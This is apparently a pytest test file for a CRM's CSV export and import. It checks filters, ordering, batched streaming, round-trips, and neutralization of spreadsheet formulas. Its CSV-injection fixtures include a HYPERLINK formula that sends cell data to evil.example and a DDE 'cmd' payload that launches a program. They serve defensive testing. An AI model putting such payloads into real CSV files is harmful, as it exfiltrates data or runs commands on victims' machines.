"""CSV export: the list's filters, order and visibility, streamed in batches, with the import's
columns; an export goes back in through the import (in another organization, or the same one
as duplicates)."""

from __future__ import annotations

import csv
import io
import uuid
from typing import Any

from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import insert

from crm_domain import csvio
from crm_domain.csvio import COLUMNS
from crm_domain.db import Database
from crm_domain.enums import ImportKind
from crm_domain.models import Contact
from crm_domain.services.transfer import exports

from .api import ApiClient, User, error_code


def _export(
    api: ApiClient, user: User, kind: str, org: int | None = None, **query: Any
) -> list[dict[str, str]]:
    r = api.get(f"/{kind}/export.csv", user=user, org=org or user.org_id, query=query)
    assert r.status_code == 200, r.get_json()
    assert r.mimetype == "text/csv"
    assert r.headers["Content-Disposition"] == f'attachment; filename="{kind}.csv"'
    assert "Content-Length" not in r.headers  # streamed: its length is not known up front
    text = r.get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text)))
    assert tuple(rows[0]) == COLUMNS[ImportKind(kind)]
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def _list(api: ApiClient, user: User, kind: str, **query: Any) -> list[dict[str, Any]]:
    r = api.get(f"/{kind}", user=user, org=user.org_id, query={"page_size": 100, **query})
    assert r.status_code == 200, r.get_json()
    return r.get_json()["items"]


def _tag() -> str:
    return uuid.uuid4().hex[:8]


def test_contacts_export_has_the_list_rows_in_the_list_order(api: ApiClient) -> None:
    team = api.team()
    owner, member = team["owner"], team["member"]
    t = _tag()
    api.contact(owner, name=f"Ann {t}", email=f"ann-{t}@example.com", phone=None)
    api.contact(member, name='Bob "the, builder"', email=f"bob-{t}@example.com", phone="+1")
    api.contact(owner, name="Zoë", email=None, phone="2")
    rows = _export(api, owner, "contacts")
    listed = _list(api, owner, "contacts")
    assert [r["name"] for r in rows] == [c["name"] for c in listed]
    by_name = {r["name"]: r for r in rows}
    assert by_name[f"Ann {t}"] == {
        "name": f"Ann {t}",
        "email": f"ann-{t}@example.com",
        "phone": "",
        "owner_email": owner.email,
    }
    assert by_name['Bob "the, builder"']["owner_email"] == member.email
    assert by_name["Zoë"]["email"] == ""
    # a member sees what the list shows them: everything
    assert _export(api, member, "contacts") == rows
    # filters are the list's
    assert [r["name"] for r in _export(api, owner, "contacts", search=f"bob-{t}")] == [
        'Bob "the, builder"'
    ]
    mine = _export(api, owner, "contacts", owner_id=member.id)
    assert [r["owner_email"] for r in mine] == [member.email]


def test_export_filter_rules_and_validation_are_the_lists(api: ApiClient) -> None:
    team = api.team()
    member = team["member"]
    for kind in ("contacts", "deals"):
        r = api.get(
            f"/{kind}/export.csv", user=member, org=member.org_id, query={"owner_id": member.id}
        )
        assert r.status_code == 403, kind
        assert error_code(r) == "OWNER_FILTER_FORBIDDEN"
    r = api.get(
        "/deals/export.csv",
        user=member,
        org=member.org_id,
        query={"min_amount": "5", "max_amount": "1"},
    )
    assert r.status_code == 400
    assert error_code(r) == "VALIDATION_ERROR"


def test_deals_export_filters_and_orders_like_the_list(api: ApiClient) -> None:
    owner = api.register()
    contact = api.contact(owner, email=f"c-{_tag()}@example.com")
    for title, amount, changes in (
        ("Small won", "10.00", {"status": "won", "stage": "closed"}),
        ("Big won", "900.00", {"status": "won", "stage": "closed"}),
        ("Lost", "50.00", {"status": "lost"}),
        ("Open", "70.00", {}),
    ):
        deal = api.deal(owner, contact_id=contact["id"], title=title, amount=amount)
        if changes:
            r = api.patch(f"/deals/{deal['id']}", user=owner, org=owner.org_id, json=changes)
            assert r.status_code == 200
    query = [("status", "won"), ("status", "lost"), ("order_by", "amount"), ("order", "asc")]
    r = api.get("/deals/export.csv", user=owner, org=owner.org_id, query=query)
    rows = list(csv.DictReader(io.StringIO(r.get_data(as_text=True))))
    assert [d["title"] for d in rows] == ["Small won", "Lost", "Big won"]
    listed = api.get("/deals", user=owner, org=owner.org_id, query=query).get_json()["items"]
    assert [d["title"] for d in rows] == [d["title"] for d in listed]
    big = rows[-1]
    assert big == {
        "title": "Big won",
        "amount": "900.00",
        "currency": "EUR",
        "status": "won",
        "stage": "closed",
        "contact_id": str(contact["id"]),
        "contact_email": contact["email"],
        "owner_email": owner.email,
    }
    assert [d["title"] for d in _export(api, owner, "deals", min_amount="60")] == [
        "Open",
        "Big won",
    ]


def test_exports_walk_the_table_in_batches(api: ApiClient, db: Database) -> None:
    owner = api.register()
    with db.transaction() as s:
        s.execute(
            insert(Contact),
            [
                {"organization_id": owner.org_id, "owner_id": owner.id, "name": f"N{i:05d}"}
                for i in range(2 * exports.BATCH_SIZE + 7)
            ],
        )
    rows = _export(api, owner, "contacts")
    assert len(rows) == 2 * exports.BATCH_SIZE + 7
    assert [r["name"] for r in rows] == [f"N{i:05d}" for i in reversed(range(len(rows)))]


def _upload(api: ApiClient, user: User, org: int, kind: str, content: str, **kw: Any) -> dict:
    r = api.upload(user, content, kind=kind, org=org, **kw)
    assert r.status_code == 202, r.get_json()
    r = api.get(f"/imports/{r.get_json()['id']}", user=user, org=org)
    job = r.get_json()
    assert job["status"] == "done", job
    return job


def _csv_text(api: ApiClient, user: User, kind: str, org: int) -> str:
    r = api.get(f"/{kind}/export.csv", user=user, org=org)
    assert r.status_code == 200
    return r.get_data(as_text=True)


def test_export_import_round_trip_into_another_organization(api: ApiClient) -> None:
    owner = api.register()
    colleague = api.register()
    api.add_member(owner, owner.org_id, colleague, "member")
    colleague.org_id = owner.org_id
    t = _tag()
    r = api.post("/organizations", user=owner, json={"name": f"Copy {t}"})
    assert r.status_code == 201
    copy = r.get_json()["id"]
    api.add_member(owner, copy, colleague, "member")

    ann = api.contact(owner, name='Ann, "quoted"', email=f"ann-{t}@example.com", phone=None)
    bob = api.contact(colleague, name="Bøb; 'semi'", email=f"bob-{t}@example.com", phone="+44")
    api.deal(owner, contact_id=ann["id"], title="First", amount="10.50", currency="USD")
    deal = api.deal(colleague, contact_id=bob["id"], title="Second", amount="99.99")
    r = api.patch(
        f"/deals/{deal['id']}",
        user=colleague,
        org=owner.org_id,
        json={"status": "won", "stage": "negotiation"},
    )
    assert r.status_code == 200

    contacts_csv = _csv_text(api, owner, "contacts", owner.org_id)
    deals_csv = _csv_text(api, owner, "deals", owner.org_id)
    job = _upload(api, owner, copy, "contacts", contacts_csv)
    assert (job["created"], job["error_rows"]) == (2, 0), job["errors"]
    job = _upload(api, owner, copy, "deals", deals_csv)
    assert (job["created"], job["error_rows"]) == (2, 0), job["errors"]

    # the same rows (newest first: the file's last row is the copy's newest)
    copied = _csv_text(api, owner, "contacts", copy).split("\r\n", 1)
    original = contacts_csv.split("\r\n", 1)
    assert copied[0] == original[0]
    assert _rows(copied[1]) == list(reversed(_rows(original[1])))

    def without_contact_ids(text: str) -> list[dict[str, str]]:
        rows = list(csv.DictReader(io.StringIO(text)))
        return [{k: v for k, v in row.items() if k != "contact_id"} for row in rows]

    copied_deals = _csv_text(api, owner, "deals", copy)
    assert without_contact_ids(copied_deals) == list(reversed(without_contact_ids(deals_csv)))
    assert {r["contact_id"] for r in csv.DictReader(io.StringIO(copied_deals))}.isdisjoint(
        {str(ann["id"]), str(bob["id"])}
    )  # the copy's deals point at the copy's contacts


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_export_import_round_trip_into_the_same_organization(api: ApiClient) -> None:
    owner = api.register()
    t = _tag()
    for i in range(3):
        api.contact(owner, name=f"P{i}", email=f"p{i}-{t}@example.com", phone=str(i))
    before = _csv_text(api, owner, "contacts", owner.org_id)
    job = _upload(api, owner, owner.org_id, "contacts", before, on_duplicate="skip")
    assert (job["created"], job["skipped"]) == (0, 3)
    job = _upload(api, owner, owner.org_id, "contacts", before, on_duplicate="update")
    assert (job["created"], job["updated"]) == (0, 3)
    assert _csv_text(api, owner, "contacts", owner.org_id) == before


# --- formulas (OWASP "CSV Injection") ----------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1 555 0100",
    "-2+3",
    "@SUM(1+1)",
    "'=already quoted",  # one quote more on the way out, exactly one less on the way in
    "'Tis plain text",  # a quote before no formula character: left alone
]


def test_exports_neutralize_formulas_unless_raw_and_import_restores_them(
    api: ApiClient,
) -> None:
    owner = api.register()
    contacts = {
        name: api.contact(owner, name=name, email=None, phone="+44 20 7946 0000")
        for name in FORMULAS
    }
    api.deal(owner, contact_id=contacts[FORMULAS[0]]["id"], title="=1+1", amount="10.50")

    rows = {r["name"]: r for r in _export(api, owner, "contacts")}
    assert set(rows) == {"'" + n if n[0] in "=+-@" or n.startswith("'=") else n for n in FORMULAS}
    assert all(r["phone"] == "'+44 20 7946 0000" for r in rows.values())
    [deal] = _export(api, owner, "deals")
    assert deal["title"] == "'=1+1"
    assert deal["amount"] == "10.50" and deal["contact_id"] == str(contacts[FORMULAS[0]]["id"])

    raw = {r["name"]: r for r in _export(api, owner, "contacts", raw="true")}
    assert set(raw) == set(FORMULAS)
    assert all(r["phone"] == "+44 20 7946 0000" for r in raw.values())
    assert _export(api, owner, "deals", raw="true")[0]["title"] == "=1+1"

    # the neutralized export goes back in as the original text
    r = api.post("/organizations", user=owner, json={"name": f"Copy {_tag()}"})
    assert r.status_code == 201
    copy = r.get_json()["id"]
    text = _csv_text(api, owner, "contacts", owner.org_id)
    job = _upload(api, owner, copy, "contacts", text)
    assert (job["created"], job["error_rows"]) == (len(FORMULAS), 0), job["errors"]
    r = api.get("/contacts", user=owner, org=copy, query={"page_size": 100})
    copied = r.get_json()["items"]
    assert sorted(c["name"] for c in copied) == sorted(FORMULAS)
    assert {c["phone"] for c in copied} == {"+44 20 7946 0000"}
    assert sorted(_csv_text(api, owner, "contacts", copy).splitlines()) == sorted(text.splitlines())


@given(st.one_of(st.text(alphabet="'=+-@\t\r a"), st.text()))
def test_neutralized_text_never_starts_a_formula_and_restores_exactly(text: str) -> None:
    written = csvio.neutralize(text)
    assert not written.startswith(csvio.FORMULA_STARTS)
    assert csvio.restore(written) == text
    if not text.startswith(("'", *csvio.FORMULA_STARTS)):
        assert written == text  # everything else is written as it is


def test_the_raw_switch_is_documented(api: ApiClient) -> None:
    spec = api.client.get("/api/v1/openapi.json").get_json()
    for path in ("/api/v1/contacts/export.csv", "/api/v1/deals/export.csv"):
        params = {p.get("name"): p for p in spec["paths"][path]["get"]["parameters"]}
        assert params["raw"]["schema"]["type"] == "boolean"
        assert "formula" in params["raw"]["description"]
